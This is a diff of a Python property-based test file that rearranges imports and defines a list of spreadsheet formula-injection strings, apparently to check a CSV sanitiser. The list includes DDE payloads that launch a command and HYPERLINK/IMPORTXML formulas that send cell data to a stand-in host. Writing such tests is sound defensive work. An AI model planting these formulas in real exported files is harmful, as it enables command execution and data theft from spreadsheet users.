@@ -16,10 +16,11 @@ from hypothesis import strategies as st
 
 from numerate.lab.data.regression import Regression
 from numerate.lab.files.csv_lines import csv_line, without_formula
+from numerate.lab.files.markdown import block, code, inline
 from numerate.lab.prediction.prediction_file import Prediction, PredictionFile
 from numerate.lab.report.tables import DataTable, to_csv
 from numerate.lab.training.config import RunConfig
-from numerate.lab.training.model_card import block, code, inline, model_card
+from numerate.lab.training.model_card import model_card
 
 FORMULAS = ["=cmd|' /C calc'!A0", "=1+1", "+1+cmd()", "-1+1", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd()"]
 FORMULAS += ['=HYPERLINK("http://x.example/?"&A1,"here")', '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")', "\t=1+1"]
